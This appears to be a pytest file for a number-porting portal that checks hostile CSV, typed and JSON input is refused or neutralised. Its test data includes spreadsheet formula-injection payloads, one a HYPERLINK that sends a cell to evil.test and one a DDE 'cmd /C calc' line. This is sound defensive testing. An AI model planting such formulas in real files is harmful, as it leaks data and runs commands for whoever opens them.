"""Hostile CSV, text and JSON wherever numbers or requests enter (issue #12, part 4).

Numbers enter through the check page (typed or a CSV), the wizard's numbers step (checked, and
added to a draft), the fax ticket's box and the inventory import; requests through the JSON API.
Each gets a corpus built here (formula cells, a 1 MB row, the row limit and one over it, odd
encodings, control and format characters, binaries named .csv; bodies that are not JSON, too
deep, too big, of every wrong type) and, per API endpoint, a hypothesis property. Whatever
arrives: no 500, the user reads what is wrong, a refusal stores nothing, and an accepted file
loses no row silently (each row is a result or named as a problem).
"""

import csv
import html as html_module
import io
import json
import re
from typing import NamedTuple
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from portal.models import (
    Account,
    Document,
    DocumentContent,
    FaxTicket,
    NumberClaim,
    NumberUpload,
    PortNumber,
    PortRequest,
    RequestEvent,
    RoutingTarget,
    TrackingSource,
)
from portal.number_lists import CSV_MAX_BYTES
from portal.portability import MAX_ENTRIES
from portal.request_api import FIELDS as REQUEST_FIELDS
from tests.test_api import bearer, issue_key
from tests.test_fax import PDF, PNG

PORTABLE = "(212) 736-5000"
HEADER = "phone_number,account_id,tracking_source_id,routing_id,friendly_name"
TABLES = (
    NumberUpload, PortRequest, PortNumber, RequestEvent, Document, DocumentContent, NumberClaim,
    FaxTicket,
)  # fmt: skip
SAVE_AS_CSV = "save it as CSV (File > Save As > CSV UTF-8) and upload that"
BINARY = f"This is not a CSV file (it holds binary data): {SAVE_AS_CSV}."
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256))


def counts(app):
    """Return every table a refused request must leave alone, with its row count."""
    with app.app_context():
        return {model._meta.table_name: model.select().count() for model in TABLES}


def text_of(response):
    return html_module.unescape(response.get_data(as_text=True))


def numbered_rows(data):
    """Return the numbers a spreadsheet gives the file's non-blank data rows (header is row 1)."""
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("cp1252")  # as the app reads Excel's Windows CSV
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return {number for number, cells in enumerate(rows, 1) if any(c.strip() for c in cells)} - {1}


@pytest.fixture
def inventory(app, accounts):
    acme, globex = accounts
    with app.app_context():
        TrackingSource.create(id=31, account=acme, name="Google Ads")
        RoutingTarget.create(id=901, account=acme, name="Front desk", kind="receiving_number")
        RoutingTarget.create(id=902, account=globex, name="Office", kind="number")
    return accounts


@pytest.fixture
def draft(app, inventory):
    """The owner's draft, whose numbers step takes the uploads."""
    with app.app_context():
        return PortRequest.create(account=inventory[0], details="{}").id


# ---------------------------------------------------------------------------------------------
# CSV uploads: the check page, and the wizard's numbers step (checked, or added to the draft).

# What each refused file makes the page say (the sentence, or its start).
REFUSED_FILES = {
    "empty": (b"", "The file is empty: add your numbers to the template and upload it."),
    "header only": (
        HEADER.encode() + b"\r\n",
        "The file has only a header row: add your numbers below it.",
    ),
    "duplicate headers": (
        b"phone_number,friendly_name,phone_number\n2127365000,a,2127365001\n",
        "Row 1: the column phone_number appears twice.",
    ),
    "10,000 header columns": (
        b"phone_number" + b",note" * 9_999 + b"\n2127365000\n",
        "Row 1: unknown columns 'note', 'note'",
    ),
    "unbalanced quote": (
        f'{HEADER}\n"2127365000,,,,Main\n2127365001,,,,Side\n'.encode(),
        "Row 2: a quote opened in phone_number is never closed",
    ),
    "UTF-16 LE": (("\ufeff" + HEADER + "\n2127365000\n").encode("utf-16-le"), "UTF-16 text"),
    "UTF-16 BE": (("\ufeff" + HEADER + "\n2127365000\n").encode("utf-16-be"), "UTF-16 text"),
    "undecodable bytes": (
        b"phone_number\n2127365000\n\x81\x8d\x8f\x90\x9d\n",
        f"This file is not UTF-8 text: {SAVE_AS_CSV}.",
    ),
    "NUL byte": (b"phone_number\n212736\x005000\n", BINARY),
    "control characters": (b"phone_number\n2127365000\x07\x1b[31m\n", BINARY),
    "PNG named .csv": (PNG, BINARY),
    "ZIP named .csv": (ZIP, f"This looks like an Excel workbook: {SAVE_AS_CSV}."),
    "PDF named .csv": (PDF, "This is a PDF, not a CSV file"),
    "a 1 MB row": (
        f"{HEADER}\n{PORTABLE},,,,{'x' * 2**20}\n2127365001\n".encode(),
        "Row 2: a cell in friendly_name is over 131,072 characters, longer than any number or",
    ),
    "a 1 MB number": (
        f"phone_number\n{'2' * 2**20}\n2127365001\n".encode(),
        "Row 2: a cell in phone_number is over 131,072 characters, longer than any number or",
    ),
    "over the size limit": (
        b"phone_number\n" + b"x" * CSV_MAX_BYTES,
        "The file is over the 4 MB limit: split it into smaller files.",
    ),
    "1,000,000 short rows": (
        b"phone_number\n" + b"1\n" * 1_000_000,
        f"The file has 1,000,000 rows of numbers; one check takes at most {MAX_ENTRIES:,}.",
    ),
    "one row over the limit": (
        b"phone_number\n" + b"2127365000\n" * (MAX_ENTRIES + 1),
        f"The file has {MAX_ENTRIES + 1:,} rows of numbers; one check takes at most",
    ),
}

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"2127365000")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 212 736 5001",
    "-1",
    "=1+1",
]
# Files the page takes: the bytes, and what a row's text must come back as in the results CSV.
ACCEPTED_FILES = {
    "formula cells": (
        "\n".join(
            [HEADER]
            + [f'"{cell.replace(chr(34), chr(34) * 2)}",,,,{PORTABLE}' for cell in FORMULAS]
            + [f'{PORTABLE},,,,"{cell.replace(chr(34), chr(34) * 2)}"' for cell in FORMULAS]
            + ['"\t=2+2",,,,"\t=3+3"']
        ).encode()
    ),
    "a 100 KB name": f"{HEADER}\n{PORTABLE},,,,{'x' * 100_000}\n2127365001\n".encode(),
    "a 100 KB number": f"phone_number\n{'2' * 100_000}\n2127365001\n".encode(),
    "a row of 10,000 cells": f"phone_number\n{PORTABLE}{',9' * 9_999}\n2127365001\n".encode(),
    "UTF-8 with BOM": ("\ufeff" + HEADER + f"\n{PORTABLE},,,,Café\n").encode(),
    "Latin-1 bytes": (HEADER + f"\n{PORTABLE},,,,Café Müller\n").encode("latin-1"),
    "invalid UTF-8": b"phone_number,friendly_name\n2127365000,\xc3\x28 caf\xe9\n",
    "bidi and zero-width in numbers": (
        "phone_number\n212\u202e736\u202c5000\n\u200b2127365001\n212\u200d736\ufeff5002\n"
        "\u2066212-736-5003\u2069\n"
    ).encode(),
    "fullwidth digits": "phone_number\n２１２７３６５０００\n（２１２）７３６－５００１\n".encode(),
    "CRLF, CR and LF mixed": (
        b"phone_number\r\n2127365000\r2127365001\n2127365002\r\n\r\n2127365003"
    ),
    "rows with problems": (
        f"{HEADER}\n,4242,,,No number\n1.21274E+11,,,,Lost\n{PORTABLE},5151,31,902,Other\n"
        f"{PORTABLE},Acme Dental,Google Ads,77,Names\n"
    ).encode(),
    "the row limit": b"phone_number\n" + b"2127365000\n" * MAX_ENTRIES,
}
# Which step each upload is posted to, and its URL.
UPLOAD_STEPS = {
    "check page": lambda draft: "/check/",
    "wizard check": lambda draft: f"/port-requests/{draft}/numbers/check",
    "wizard add": lambda draft: f"/port-requests/{draft}/numbers/add",
}
# The big files cost seconds per step: the check page reads them as the wizard does.
CHECK_PAGE_ONLY = {"1,000,000 short rows", "over the size limit", "the row limit"}


class Answer(NamedTuple):
    status_code: int
    text: str  # the page's text, entities unescaped


def upload(client, url, data, name="numbers.csv", **form):
    """Post the file as a browser does (multipart), and return the answer.

    Encoded here in memory: the test client spools a big body to a temporary file it never
    closes, which the warning filter would fail some later test for."""
    chosen = FileStorage(io.BytesIO(data), filename=name, content_type="text/csv")
    boundary, body = encode_multipart({"csv_file": chosen, **form})
    kind = f"multipart/form-data; boundary={boundary}"
    with client.post(url, data=body, content_type=kind) as response:
        return Answer(response.status_code, text_of(response))


@pytest.mark.parametrize("step", UPLOAD_STEPS)
def test_a_refused_file_says_why_and_stores_nothing(app, owner_client, draft, step):
    # One app for the whole corpus: each file is a separate upload to the same step.
    for name, (data, sentence) in REFUSED_FILES.items():
        if step != "check page" and name in CHECK_PAGE_ONLY:
            continue
        before = counts(app)
        response = upload(owner_client, UPLOAD_STEPS[step](draft), data)
        assert response.status_code == 200, name
        alert = re.search(r'role="alert">(.*?)</div>', response.text, re.S)
        assert alert and sentence in alert.group(1), (name, response.text[-3000:])
        assert counts(app) == before, name


def results_download(client, page):
    """Download the results CSV the page offers (all rows, not only the 500 it shows)."""
    upload_id = re.search(r'id="upload" name="upload" type="hidden" value="(\d+)"', page)
    response = client.post("/check/results.csv", data={"upload": upload_id.group(1), "reason": ""})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_an_accepted_file_accounts_for_every_row_on_the_check_page(app, owner_client):
    for kept, (name, data) in enumerate(ACCEPTED_FILES.items(), 1):
        response = upload(owner_client, "/check/", data)
        assert response.status_code == 200, name
        page = response.text
        assert 'role="alert"' not in page.split("check-summary")[0], (name, page[-3000:])
        results = results_download(owner_client, page)
        checked = re.search(r">([\d,]+) numbers? checked from numbers\.csv", page)
        assert int(checked.group(1).replace(",", "")) == len(results), name
        # Every row is a result, or named as a problem (a row without a usable number).
        named = {int(row) for row in re.findall(r"<li>Row (\d+), ", page)}
        assert {int(row["line"]) for row in results} | named == numbered_rows(data), name
        with app.app_context():
            assert NumberUpload.select().count() == kept, name
        # No cell of the results runs as a formula in a spreadsheet.
        for row in results:
            for cell in row.values():
                assert not cell.startswith(("=", "@", "\t", "\r")), (name, row)
                assert not (cell.startswith(("+", "-")) and re.search(r"[A-Za-z(]", cell)), row


def test_formula_cells_come_back_inert_but_as_written(owner_client, draft):
    results = results_download(
        owner_client, upload(owner_client, "/check/", ACCEPTED_FILES["formula cells"]).text
    )
    inputs = [row["input"] for row in results[: len(FORMULAS)]]
    assert inputs == [
        '\'=HYPERLINK("http://evil.test/?"&A1,"2127365000")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "+1 212 736 5001",
        "-1",
        "'=1+1",
    ]
    names = [row["friendly_name"] for row in results[len(FORMULAS) :]]
    assert names == [*(inputs[:2]), "+1 212 736 5001", "-1", "'=1+1", "'=3+3"]


def test_an_accepted_file_added_to_a_draft_keeps_every_usable_row(app, owner_client, inventory):
    for name, data in ACCEPTED_FILES.items():
        if name in CHECK_PAGE_ONLY:
            continue
        with app.app_context():
            draft = PortRequest.create(account=inventory[0], details="{}").id
        before = counts(app)
        response = upload(owner_client, f"/port-requests/{draft}/numbers/add", data)
        assert response.status_code in (200, 302), name
        page = text_of(owner_client.get(f"/port-requests/{draft}/numbers"))
        with app.app_context():
            added = PortNumber.select().where(PortNumber.port_request == draft).count()
        if "100 KB" in name:
            # Too long to keep as a row's text: refused whole, and said so.
            assert "characters long: shorten it and add the numbers again." in response.text
            # The file itself stays with the page's check results, as any checked file does.
            before["number_upload"] += 1
            assert (added, counts(app)) == (0, before), name
            continue
        assert f"Added {added:,} number" in page, name
        # A row not added is named; a named row may have been added too (an ID left empty).
        named = set(map(int, re.findall(r"Row (\d+), ", page)))
        assert 0 < added <= len(numbered_rows(data)) <= added + len(named), name


# ---------------------------------------------------------------------------------------------
# Typed numbers: the check page's box, the wizard's, and the fax ticket's.

TYPED = {
    "formulas": '=HYPERLINK("http://evil.test","x")\n@SUM(A1)\n+1 212 736 5000\n-1',
    "a NUL inside a number": "212\x00736 5000\n2127365001",
    "control characters": "2127365000\x07\n\x1b[31m2127365001",
    "bidi and zero-width": "212\u202e7365000\u202c\n\u200b212 736 5001\ufeff",
    "fullwidth digits": "２１２７３６５０００；（２１２）７３６－５００１",
    "CRLF, CR and LF mixed": "2127365000\r\n2127365001\r2127365002\n\n2127365003",
    "a 999,990-character line": "2" * 999_990,
    "lone surrogate-free astral text": "📞 212 736 5000, 𝟐𝟏𝟐𝟕𝟑𝟔𝟓𝟎𝟎𝟏",
}
TYPED_REFUSED = {
    "over 1,000,000 characters": (
        "2" * 1_000_001,
        "That is too much text: upload the list as a CSV.",
    ),
    "one number over the limit": (
        "2127365000\n" * (MAX_ENTRIES + 1),
        f"You entered {MAX_ENTRIES + 1:,} numbers; one check takes at most {MAX_ENTRIES:,}. "
        "Split the list.",
    ),
}


def typed_pieces(text):
    """Count what was typed as the owner sees it: one number per comma, semicolon, tab or line."""
    lines = re.split(r"\r\n|\r|\n", text)
    return sum(1 for line in lines for piece in re.split(r"[,;\t，；]", line) if piece.strip())


def test_typed_numbers_are_each_a_result_or_refused_saying_why(app, owner_client, draft):
    for name, text in TYPED.items():
        with owner_client.post("/check/", data={"numbers": text}) as response:
            assert response.status_code == 200, name
            page = text_of(response)
        checked = re.search(r">([\d,]+) numbers? checked from the numbers you typed", page)
        assert checked and int(checked[1].replace(",", "")) == typed_pieces(text), name
        before = counts(app)
        with owner_client.post(f"/port-requests/{draft}/numbers/add", data={"numbers": text}):
            pass
        with app.app_context():
            rows = PortNumber.select().where(PortNumber.port_request == draft)
            if len(text) > 10_000:  # longer than a row's text may be: refused whole
                assert rows.count() == before["port_number"], name
            else:
                assert rows.count() == before["port_number"] + typed_pieces(text), name
                # A NUL cannot be stored (PostgreSQL refuses it): the row keeps the rest.
                assert all("\x00" not in row.phone_number for row in rows), name
    for name, (text, sentence) in TYPED_REFUSED.items():
        for url in ("/check/", f"/port-requests/{draft}/numbers/add"):
            before = counts(app)
            with owner_client.post(url, data={"numbers": text}) as response:
                assert response.status_code == 200, name
                assert sentence in text_of(response), (name, url)
            assert counts(app) == before, (name, url)


FAX_REFUSED = {
    "": "Enter the fax numbers to port.",
    "\x00\u200b\u202e": "Has an invisible character (U+200B ZERO WIDTH SPACE): retype",
    "\u202e614 322 1002\u202c": "Has an invisible character (U+202E RIGHT-TO-LEFT OVERRIDE)",
    "=HYPERLINK(1)\n6143221001": "1 of 2 numbers can't be ported, as listed below",
    "614322\x001001": "1 of 1 numbers can't be ported",
    "6143221001\n" * 101: "You entered 101 numbers; one ticket takes at most 100.",
    "6" * 10_001: "That is more text than 100 numbers take",
}


def fax_form(numbers):
    return {
        "numbers": numbers,
        "fax_proof": (io.BytesIO(PDF), "bill.pdf"),
        "fax_loa": (io.BytesIO(PNG), "loa.png"),
    }


def test_a_fax_ticket_takes_hostile_numbers_only_as_portable_numbers(app, owner_client):
    for numbers, sentence in FAX_REFUSED.items():
        before = counts(app)
        with owner_client.post("/fax-ports/new", data=fax_form(numbers)) as response:
            assert response.status_code == 200, repr(numbers)
            assert sentence in text_of(response), repr(numbers)
        assert counts(app) == before, repr(numbers)
    # Fullwidth digits, fullwidth separators and a formula-like sign file fine.
    typed = "（６１４）３２２－１００１；614.322.1002\r+1 614 322 1003"
    with owner_client.post("/fax-ports/new", data=fax_form(typed)) as response:
        assert response.status_code == 302
    with app.app_context():
        ticket = FaxTicket.get()
        assert json.loads(ticket.numbers) == ["+16143221001", "+16143221002", "+16143221003"]


# ---------------------------------------------------------------------------------------------
# The inventory import: a JSON file on the command line.

INVENTORY_REFUSED = {
    "not JSON": (b"id,name\n1,Acme\n", "line 1, column 1: Expecting value"),
    "UTF-16": ('{"accounts": []}'.encode("utf-16"), "not UTF-8 text (save the file as UTF-8)"),
    "invalid UTF-8": (b'{"accounts": [{"id": 1, "name": "Caf\xe9"}]}', "not UTF-8 text"),
    "a top-level list": (b"[]", 'top level: must be an object with an "accounts" list'),
    "null": (b"null", 'top level: must be an object with an "accounts" list, got null'),
    "10,000 levels": (
        b'{"accounts": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
        "nested more deeply than an inventory is",
    ),
    "NaN": (b'{"accounts": [{"id": NaN, "name": "Acme"}]}', "accounts[0].id: must be a whole"),
    "1e400": (b'{"accounts": [{"id": 1e400, "name": "Acme"}]}', "accounts[0].id: must be a whole"),
    "2**70": (
        f'{{"accounts": [{{"id": {2**70}, "name": "Acme"}}]}}'.encode(),
        "accounts[0].id: must be between 1 and 2147483647",
    ),
    "wrong types": (
        b'{"accounts": [{"id": "4242", "name": ["Acme"], "tracking_numbers": {}}]}',
        "accounts[0].name: must be text",
    ),
    "formula number": (
        b'{"accounts": [{"id": 1, "name": "A", "receiving_numbers": [{"number": "=1+1"}]}]}',
        "accounts[0].receiving_numbers[0].number:",
    ),
}


def test_the_inventory_import_refuses_hostile_json_naming_the_problem(app, runner, tmp_path):
    path = tmp_path / "inventory.json"
    for name, (data, problem) in INVENTORY_REFUSED.items():
        path.write_bytes(data)
        before = counts(app)
        result = runner.invoke(args=["inventory", "import", str(path)])
        assert result.exit_code == 1, (name, result.output, result.exception)
        assert "Refused inventory.json: nothing was imported." in result.output, name
        assert problem in result.output, (name, result.output)
        assert counts(app) == before
    # Text with a BOM, NULs, control and format characters imports; a NUL is never stored.
    path.write_bytes(
        '\ufeff{"accounts": [{"id": 7, "name": "Ac\\u0000me \\u202eDental", '
        '"receiving_numbers": [{"number": "２１２\\u200b７３６５０００", '
        '"name": "\\u0007Desk"}]}]}'.encode()
    )
    result = runner.invoke(args=["inventory", "import", str(path)])
    assert result.exit_code == 0, (result.output, result.exception)
    with app.app_context():
        assert Account.get_by_id(7).name == "Acme \u202eDental"


# ---------------------------------------------------------------------------------------------
# The JSON API: every endpoint gets bodies that are not what it asks for.

API = "/api/v1"
JSON_TYPE = "application/json"
DEEP = b'{"numbers": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
# (body, content type) pairs every endpoint that takes JSON must refuse with a 4xx.
REFUSED_BODIES = {
    "not JSON": (b"numbers=2127365000", JSON_TYPE),
    "invalid UTF-8": (b'{"friendly_name": "Caf\xe9"}', JSON_TYPE),
    "latin-1 declared": (b'{"friendly_name": "Caf\xe9"}', "application/json; charset=latin-1"),
    "a top-level array": (b"[]", JSON_TYPE),
    "a top-level string": (b'"numbers"', JSON_TYPE),
    "a top-level number": (b"2127365000", JSON_TYPE),
    "null": (b"null", JSON_TYPE),
    "10,000 levels": (DEEP, JSON_TYPE),
    "NaN": (b'{"numbers": NaN}', JSON_TYPE),
    "Infinity": (b'{"friendly_name": -Infinity}', JSON_TYPE),
    "1e400": (b'{"friendly_name": 1e400, "numbers": [1e400]}', JSON_TYPE),
    "duplicate keys": (b'{"numbers": [], "numbers": ["2127365000"]}', JSON_TYPE),
    "unknown keys": (b'{"numbers": [], "pin": "1234"}', JSON_TYPE),
    "numbers of the wrong type": (b'{"numbers": {"phone_number": 2127365000}}', JSON_TYPE),
    "2**70 ids": (
        f'{{"numbers": [{{"phone_number": "2127365000", "routing_id": {2**70}}}]}}'.encode(),
        JSON_TYPE,
    ),
    "text/plain": (b'{"numbers": []}', "text/plain"),
    "form encoded": (b"numbers=2127365000", "application/x-www-form-urlencoded"),
    "no content type": (b'{"numbers": []}', None),
    "20 MB of one field": (json.dumps({"friendly_name": "x" * 20_000_000}).encode(), JSON_TYPE),
    "25 MB, over the limit": (b'{"numbers": ["' + b"2" * 25 * 2**20 + b'"]}', JSON_TYPE),
}
# What each endpoint may not refuse because it takes the field: the checks take only numbers.
TAKEN = {
    "checks": {"unknown keys", "20 MB of one field", "1e400", "2**70 ids"},
    "create": set(),
    "change": set(),
    "documents": set(),
}


@pytest.fixture
def api(app, inventory):
    """Acme's key, Globex's key, a draft of each, and a client."""
    acme, globex = inventory
    with app.app_context():
        mine = PortRequest.create(account=acme, details='{"friendly_name": "Mine"}').id
        theirs = PortRequest.create(account=globex, details='{"friendly_name": "Theirs"}').id
    return app.test_client(), issue_key(app, acme), issue_key(app, globex), mine, theirs


def send(client, method, url, key, body=b"", content_type=JSON_TYPE):
    headers = bearer(key) | ({"Content-Type": content_type} if content_type else {})
    with client.open(url, method=method, data=body, headers=headers) as response:
        return response.status_code, response.mimetype, response.get_data()


def strict_json(data):
    """Parse an answer as JSON proper: NaN and Infinity are not JSON, so no client reads them."""
    return json.loads(data, parse_constant=lambda name: pytest.fail(f"{name} in an answer"))


def assert_refused(app, before, answer, what):
    status, mimetype, data = answer
    assert 400 <= status < 500, (what, status, data[:300])
    assert mimetype == JSON_TYPE, what
    error = strict_json(data)["error"]
    assert error["code"] and len(error["message"]) > 20, (what, error)
    assert counts(app) == before, what
    return error


def endpoints(mine):
    return {
        "checks": ("POST", f"{API}/portability-checks"),
        "create": ("POST", f"{API}/port-requests"),
        "change": ("PATCH", f"{API}/port-requests/{mine}"),
        "documents": ("POST", f"{API}/port-requests/{mine}/documents"),
    }


def test_every_json_endpoint_refuses_hostile_bodies_storing_nothing(app, api):
    client, key, _, mine, _ = api
    for endpoint, (method, url) in endpoints(mine).items():
        for name, (body, content_type) in REFUSED_BODIES.items():
            before = counts(app)
            answer = send(client, method, url, key, body, content_type)
            if name in TAKEN[endpoint]:
                assert answer[0] < 500 and strict_json(answer[2]), (endpoint, name)
                continue
            assert_refused(app, before, answer, (endpoint, name))
    with app.app_context():
        assert PortRequest.get_by_id(mine).fields == {"friendly_name": "Mine"}


def test_the_messages_say_what_is_wrong_with_the_body(app, api):
    client, key, _, mine, _ = api
    url = f"{API}/port-requests"
    said = {
        name: assert_refused(app, counts(app), send(client, "POST", url, key, *sent), name)
        for name, sent in REFUSED_BODIES.items()
    }
    assert said["text/plain"]["message"] == (
        "Send the body as JSON with 'Content-Type: application/json'."
    )
    assert said["no content type"]["code"] == "unsupported_media_type"
    assert said["not JSON"]["message"] == "The body is not valid JSON."
    assert said["a top-level array"]["message"] == (
        "The body must be a JSON object of the request's fields, not a list."
    )
    assert "nested too deeply" in said["10,000 levels"]["message"]
    assert "not UTF-8" in said["invalid UTF-8"]["message"]
    assert "appears twice" in said["duplicate keys"]["message"]
    assert "too large" in said["1e400"]["message"]
    assert said["25 MB, over the limit"]["code"] == "body_too_large"
    assert (
        "numbers[0].routing_id must be the ID as a whole number" in (said["2**70 ids"]["message"])
    )


def test_another_accounts_objects_and_impossible_ids_are_404s(app, api):
    client, key, _, mine, theirs = api
    for request_id in (theirs, 2**70, 2**31, 0):
        for method, path in (
            ("GET", ""),
            ("PATCH", ""),
            ("DELETE", ""),
            ("GET", "/documents"),
            ("POST", "/documents"),
            ("GET", "/documents/1"),
        ):
            before = counts(app)
            answer = send(client, method, f"{API}/port-requests/{request_id}{path}", key, b"{}")
            assert answer[0] == 404, (method, request_id, path)
            assert_refused(app, before, answer, (method, request_id, path))
    for path in ("/-1", "/1e3", "/%00", "/%E2%80%AE1", "/1%00"):
        assert send(client, "GET", f"{API}/port-requests{path}", key)[0] == 404, path
    with app.app_context():
        assert PortRequest.get_by_id(theirs).fields == {"friendly_name": "Theirs"}


# Values a hostile client puts anywhere: every JSON type, and text that breaks things.
HOSTILE_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(blacklist_categories=("Cs",)),
        st.sampled_from(["\x00", "\r", "\u202e", "\u200b", "\ufeff", "=", "\\", '"']),
    ),
    max_size=40,
)
VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**80), max_value=2**80)
    | st.floats(allow_nan=False)
    | HOSTILE_TEXT
    | st.just("x" * 20_000),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(HOSTILE_TEXT, children, max_size=3)
    ),
    max_leaves=10,
)
REQUEST_KEYS = st.sampled_from(
    ["friendly_name", "contact", "billing", "service_address", "authorized", "partial_port",
     "requested_date", "numbers", "status", "id", "\x00"]
)  # fmt: skip
NUMBER_ROWS = st.lists(
    st.dictionaries(
        st.sampled_from(["phone_number", "routing_id", "tracking_source_id", "friendly_name"]),
        VALUES,
    ),
    max_size=3,
)
REQUEST_BODIES = st.dictionaries(REQUEST_KEYS, VALUES, max_size=5) | st.fixed_dictionaries(
    {"numbers": NUMBER_ROWS}
)
CONTENT_TYPES = st.sampled_from(
    [JSON_TYPE, JSON_TYPE, "application/json; charset=latin-1", "text/plain", None]
)
# A body as sent: JSON text of a value, sometimes spoiled (a BOM, cut short, not UTF-8).
SPOILS = st.sampled_from(
    [
        lambda b: b,
        lambda b: b,
        lambda b: b"\xef\xbb\xbf" + b,
        lambda b: b[:-1],
        lambda b: b + b"\xff",
    ]
)
FUZZ = settings(
    max_examples=25,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def fuzz_send(app, client, method, url, key, value, spoil, content_type):
    """Send the value; whatever it is, the answer is JSON and a refusal stores nothing."""
    before = counts(app)
    body = spoil(json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    answer = send(client, method, url, key, body, content_type)
    assert answer[0] < 500, (value, answer[2][:500])
    if answer[0] >= 400:
        assert_refused(app, before, answer, value)
    else:
        assert answer[1] == JSON_TYPE
        strict_json(answer[2])
    return answer


@FUZZ
@given(value=st.fixed_dictionaries({"numbers": st.lists(VALUES, max_size=4)}) | VALUES,
       spoil=SPOILS, content_type=CONTENT_TYPES)  # fmt: skip
def test_fuzzed_portability_checks(app, api, value, spoil, content_type):
    client, key, *_ = api
    fuzz_send(app, client, "POST", f"{API}/portability-checks", key, value, spoil, content_type)


@FUZZ
@given(value=REQUEST_BODIES | VALUES, spoil=SPOILS, content_type=CONTENT_TYPES)
@example(value={"numbers": [{"phone_number": "212\x00736\u202e5000", "routing_id": "902"}]},
         spoil=lambda b: b, content_type=JSON_TYPE)  # fmt: skip
def test_fuzzed_port_request_creation(app, api, value, spoil, content_type):
    client, key, *_ = api
    answer = fuzz_send(app, client, "POST", f"{API}/port-requests", key, value, spoil, content_type)
    if answer[0] == 201:
        created = strict_json(answer[2])
        read = send(client, "GET", f"{API}/port-requests/{created['id']}", key)
        assert read[0] == 200 and strict_json(read[2]) == created


@FUZZ
@given(value=REQUEST_BODIES | VALUES, spoil=SPOILS, content_type=CONTENT_TYPES)
def test_fuzzed_port_request_changes(app, api, value, spoil, content_type):
    client, key, _, mine, theirs = api
    for request_id in (mine, theirs):
        url = f"{API}/port-requests/{request_id}"
        fuzz_send(app, client, "PATCH", url, key, value, spoil, content_type)
    with app.app_context():
        assert PortRequest.get_by_id(theirs).fields == {"friendly_name": "Theirs"}


@FUZZ
@given(page=HOSTILE_TEXT | st.integers().map(str), request_id=st.integers(min_value=0))
def test_fuzzed_reads_and_deletes(app, api, page, request_id):
    client, key, _, mine, theirs = api
    listed = send(client, "GET", f"{API}/port-requests?{urlencode({'page': page})}", key)
    assert listed[0] in (200, 400) and strict_json(listed[2]), page
    for method in ("GET", "DELETE"):
        before = counts(app)
        answer = send(client, method, f"{API}/port-requests/{request_id}", key)
        assert answer[0] in (200, 204, 404), (method, request_id)
        if request_id not in (mine,):
            assert_refused(app, before, answer, (method, request_id))


@FUZZ
@given(
    fields=st.dictionaries(
        st.sampled_from(["kind", "statement_date", "signed_date", "file", "\x00"]),
        HOSTILE_TEXT | st.sampled_from(["bill", "signed_loa", "2026-11-01", "9999-99-99"]),
        max_size=4,
    ),
    data=st.sampled_from([b"", b"\x00" * 10, PNG, ZIP, b"%PDF-1.7\n%%EOF", b"{}"]),
    filename=HOSTILE_TEXT,
)
def test_fuzzed_document_uploads(app, api, fields, data, filename):
    client, key, _, mine, theirs = api
    for request_id in (mine, theirs):
        form = {**fields, "file": FileStorage(io.BytesIO(data), filename=filename)}
        boundary, body = encode_multipart(form)
        before = counts(app)
        url = f"{API}/port-requests/{request_id}/documents"
        answer = send(client, "POST", url, key, body, f"multipart/form-data; boundary={boundary}")
        assert answer[0] < 500, (fields, filename, answer[2][:300])
        if answer[0] >= 400:
            assert_refused(app, before, answer, (fields, filename))
        assert request_id == mine or answer[0] == 404


NUMBER_KEYS = ["phone_number", "routing_id", "tracking_source_id", "friendly_name"]
WRONG = [1, 1.5, True, None, [], {}, [1, "a"], {"x": {"y": 1}}, "\x00", "\u202e\u200b", 2**70, -1]


def test_every_field_of_the_wrong_type_is_refused_or_named_as_a_problem(app, api):
    client, key, _, mine, _ = api
    sent = [(field, field) for field in REQUEST_FIELDS if field != "numbers"]
    sent += [(f"numbers[0].{name}", {"numbers": [{name: ...}]}) for name in NUMBER_KEYS]
    routes = [("POST", f"{API}/port-requests"), ("PATCH", f"{API}/port-requests/{mine}")]
    blank = strict_json(send(client, "POST", f"{API}/port-requests", key, b"{}")[2])
    empty = {(p["field"], p["message"]) for p in blank["problems"]}
    for value in WRONG:
        for path, shape in sent:
            body = {shape: value} if isinstance(shape, str) else {"numbers": [{path[11:]: value}]}
            for method, url in routes:
                status, _, data = fuzz_send(app, client, method, url, key, body, bytes, JSON_TYPE)
                if status >= 400 or value in (None, [], {}):  # empty: the same as not sent
                    continue
                # Kept as sent: the request's problems name the field, or the row says that
                # its number is not one (a NUL is dropped on the way to the database).
                answer = strict_json(data)
                named = [p["field"] for p in answer["problems"]]
                if path.startswith("numbers"):
                    assert len(answer["numbers"]) == 1, body
                    refused = not answer["numbers"][0]["portability"]["portable"]
                    assert refused or any(f.startswith(path) for f in named), (body, named)
                else:
                    # Not what an empty field says: the wrong value itself is named.
                    said = {(p["field"], p["message"]) for p in answer["problems"]}
                    assert {s for s in said - empty if s[0].startswith(path)}, (body, said)
